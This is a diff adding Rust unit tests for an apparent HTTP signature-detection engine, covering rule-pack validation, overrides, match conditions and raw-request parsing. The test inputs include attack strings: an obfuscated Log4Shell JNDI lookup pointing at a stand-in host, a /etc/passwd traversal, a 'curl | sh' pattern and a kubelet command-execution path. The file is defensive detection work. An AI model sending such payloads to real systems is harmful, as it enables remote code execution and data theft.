@@ -1,0 +1,188 @@
+//! Unit tests of the pack format, its layering and the rule engine.
+
+use super::pack::{Pack, BUILTIN_PACK};
+use super::test_requests::{parse_requests, test_requests, Layering};
+use crate::mirror::MirrorPolicy;
+#[cfg(target_arch = "wasm32")]
+use wasm_bindgen_test::wasm_bindgen_test as test;
+
+const TARGET: &str = r#""targets":{"ids":{"cluster":"s","delivery":"header"}}"#;
+
+fn policy(signatures: &str) -> MirrorPolicy {
+    MirrorPolicy::from_json(format!(r#"{{{TARGET},"signatures":{signatures}}}"#).as_bytes())
+        .unwrap_or_else(|e| panic!("{e}"))
+}
+
+fn error(signatures: &str) -> String {
+    MirrorPolicy::from_json(format!(r#"{{{TARGET},"signatures":{signatures}}}"#).as_bytes())
+        .map(|_| ())
+        .unwrap_err()
+        .to_string()
+}
+
+/// Rule ids the policy's signatures find in a request given as NDJSON.
+fn rules_hit(p: &MirrorPolicy, ndjson: &str) -> Vec<String> {
+    let r = parse_requests(ndjson.as_bytes())
+        .unwrap_or_else(|e| panic!("{e}"))
+        .remove(0);
+    super::test_requests::run(p.signature_set(), r).rules
+}
+
+#[test]
+fn the_builtin_pack_is_valid_and_every_rule_has_references() {
+    let pack = Pack::builtin().unwrap_or_else(|e| panic!("{e}"));
+    assert!(pack.rules.len() >= 20);
+    for r in &pack.rules {
+        assert!(!r.references.is_empty(), "{} has no reference", r.id);
+        assert!(r.id.starts_with("ms-"), "{}", r.id);
+    }
+    assert!(BUILTIN_PACK.contains("\"pack\": \"meshsight-builtin\""));
+}
+
+#[test]
+fn a_bad_pack_is_refused_with_its_json_path() {
+    let rule = |m: &str| {
+        format!(
+            r#"{{"packs":[{{"pack":"p","rules":[{{"id":"a","name":"a","category":"c","severity":"high","in":["path"],{m}}}]}}]}}"#
+        )
+    };
+    for (sig, want) in [
+        (rule(r#""match":{"any":[""]}"#), "signatures.packs[0].rules[0].match.any[0]: must not be empty"),
+        (rule(r#""match":{}"#), "signatures.packs[0].rules[0].match: needs `any` or `all` literals"),
+        (rule(r#""match":{"all":[[]]}"#), "signatures.packs[0].rules[0].match.all[0]: must not be empty"),
+        (rule(r#""match":{"any":["x"]},"severity2":1"#), "signatures.packs[0].rules[0].severity2: unknown field"),
+        (rule(r#""match":{"any":["x"]},"params":["q"]"#), "signatures.packs[0].rules[0].params: needs"),
+        (rule(r#""match":{"all":[["x"]],"anchor":"start"}"#), "signatures.packs[0].rules[0].match.anchor: applies to `any`"),
+        (rule(r#""match":{"any":["x"]},"transforms":["rot13"]"#), "signatures.packs[0].rules[0].transforms[0]: unknown variant"),
+        (rule(r#""match":{"any":["x"]},"when":{"methods":["GE T"]}"#), "signatures.packs[0].rules[0].when.methods[0]: \"GE T\" is not a method token"),
+        (r#"{"rules":{"ms-nope":false}}"#.to_string(), "signatures.rules.ms-nope: unknown rule id"),
+        (r#"{"categories":{"nope":false}}"#.to_string(), "signatures.categories.nope: unknown category"),
+        (r#"{"packs":[{"pack":"p","rules":[{"id":"a b","name":"a","category":"c","severity":"high","in":["path"],"match":{"any":["x"]}}]}]}"#.to_string(), "signatures.packs[0].rules[0].id: rule ids are"),
+    ] {
+        let got = error(&sig);
+        assert!(got.starts_with(want), "want {want:?}, got {got:?}");
+    }
+}
+
+#[test]
+fn packs_add_override_and_switch_off_rules() {
+    let p = policy(
+        r#"{"packs":[{"pack":"soc","rules":[
+            {"id":"soc-acme","name":"acme","category":"acme","severity":"high","in":["headers"],
+             "headers":["x-acme-debug"],"match":{"any":["enable"]}},
+            {"id":"ms-traversal-sensitive-file","name":"files","category":"path_traversal",
+             "severity":"high","in":["path","query"],"match":{"any":["/etc/passwd"]}}]}],
+           "rules":{"ms-kubelet-exec-route":false}}"#,
+    );
+    assert_eq!(
+        rules_hit(
+            &p,
+            r#"{"path":"/a","headers":[["x-acme-debug","enable=1"]]}"#
+        ),
+        ["soc-acme"]
+    );
+    assert!(rules_hit(&p, r#"{"path":"/a","headers":[["x-other","enable=1"]]}"#).is_empty());
+    assert_eq!(
+        rules_hit(&p, r#"{"path":"/x?f=/etc/passwd"}"#),
+        ["ms-traversal-sensitive-file"]
+    );
+    assert!(rules_hit(&p, r#"{"path":"/download?file=win.ini"}"#).is_empty());
+    assert!(rules_hit(
+        &p,
+        r#"{"method":"POST","path":"/run/default/web/web?cmd=id"}"#
+    )
+    .is_empty());
+    assert_eq!(
+        rules_hit(
+            &p,
+            r#"{"path":"/a","headers":[["user-agent","${${::-j}${::-n}${::-d}${::-i}:rmi://e.example/a}"]]}"#
+        ),
+        ["ms-log4shell-jndi", "ms-log4shell-lookup-protocol"]
+    );
+    let ids = p.signature_rule_ids();
+    assert!(ids.iter().any(|i| i == "soc-acme"));
+    assert!(!ids.iter().any(|i| i == "ms-kubelet-exec-route"));
+    // The built-in pack can be left out entirely.
+    let only = policy(r#"{"builtin":false,"custom":[{"name":"c","literal":"zzz"}]}"#);
+    assert_eq!(only.signature_rule_ids(), ["c"]);
+}
+
+#[test]
+fn conditions_anchor_case_and_veto() {
+    let p = policy(
+        r##"{"builtin":false,"packs":[{"pack":"t","rules":[
+            {"id":"case","name":"n","category":"c","severity":"low","in":["headers"],
+             "transforms":["percent_decode"],"match":{"any":["X-Secret"]}},
+            {"id":"veto","name":"n","category":"c","severity":"low","in":["query"],
+             "match":{"all":[["curl"],["|sh"]],"none":["#safe"]}},
+            {"id":"when","name":"n","category":"c","severity":"low","in":["params"],"params":["q"],
+             "when":{"methods":["POST"],"path_suffix":[".do"]},"match":{"any":["evil"]}}]}]}"##,
+    );
+    assert_eq!(
+        rules_hit(&p, r#"{"path":"/","headers":[["h","X-Secret"]]}"#),
+        ["case"]
+    );
+    assert!(rules_hit(&p, r#"{"path":"/","headers":[["h","x-secret"]]}"#).is_empty());
+    assert_eq!(rules_hit(&p, r#"{"path":"/?a=curl+x|sh+y"}"#), ["veto"]);
+    assert!(rules_hit(&p, r#"{"path":"/?a=curl+x|sh+y%23safe"}"#).is_empty());
+    assert_eq!(
+        rules_hit(&p, r#"{"method":"POST","path":"/a/b.do;x=1?q=evil"}"#),
+        ["when"]
+    );
+    assert!(rules_hit(&p, r#"{"method":"GET","path":"/a/b.do?q=evil"}"#).is_empty());
+    assert!(rules_hit(&p, r#"{"method":"POST","path":"/a/b.do?other=evil"}"#).is_empty());
+    assert_eq!(
+        rules_hit(
+            &p,
+            r#"{"method":"POST","path":"/b.do","headers":[["content-type","application/json"]],"body":"{\"q\":\"evil\"}"}"#
+        ),
+        ["when"]
+    );
+}
+
+#[test]
+fn the_cli_function_reads_raw_http_and_ndjson() {
+    let pack = br#"{"pack":"p","rules":[{"id":"acme","name":"a","category":"acme","severity":"low","in":["body"],"match":{"any":["acme-backdoor"]}}]}"#;
+    let raw = b"POST /upload HTTP/1.1\r\nHost: a\r\nContent-Type: text/plain\r\nContent-Length: 13\r\n\r\nacme-backdoorGET /?x=${jndi:ldap://e/a} HTTP/1.1\r\nHost: a\r\n\r\n";
+    let v = test_requests(pack, raw, Layering::OverBuiltin).unwrap_or_else(|e| panic!("{e}"));
+    assert_eq!(v.len(), 2);
+    assert_eq!(v[0].rules, ["acme"]);
+    assert_eq!(v[1].categories, ["log4shell"]);
+    let v = test_requests(pack, raw, Layering::Alone).unwrap_or_else(|e| panic!("{e}"));
+    assert!(!v[1].hit());
+    let nd = br#"{"method":"POST","path":"/u","body":"acme-backdoor"}"#;
+    let v = test_requests(pack, nd, Layering::Alone).unwrap_or_else(|e| panic!("{e}"));
+    assert_eq!(v[0].categories, ["acme"]);
+    let err = test_requests(b"{}", nd, Layering::Alone)
+        .unwrap_err()
+        .to_string();
+    assert!(
+        err.starts_with("pack: pack: missing field") || err.contains("missing field"),
+        "{err}"
+    );
+}
+
+#[test]
+fn a_thousand_custom_rules_compile_and_do_not_fire_on_plain_traffic() {
+    let rules: Vec<String> = (0..1000)
+        .map(|i| {
+            format!(
+                r#"{{"id":"c{i}","name":"c","category":"custom","severity":"low","in":["path","query","headers","body"],"match":{{"any":["zz-indicator-{i}-x"]}}}}"#
+            )
+        })
+        .collect();
+    let p = policy(&format!(
+        r#"{{"packs":[{{"pack":"big","rules":[{}]}}]}}"#,
+        rules.join(",")
+    ));
+    assert!(p.signature_rule_ids().len() > 1000);
+    assert!(rules_hit(
+        &p,
+        r#"{"path":"/api/orders?page=2","headers":[["user-agent","Mozilla/5.0"]]}"#
+    )
+    .is_empty());
+    assert_eq!(
+        rules_hit(&p, r#"{"path":"/a?q=ZZ-INDICATOR-999-X"}"#),
+        ["c999"]
+    );
+}
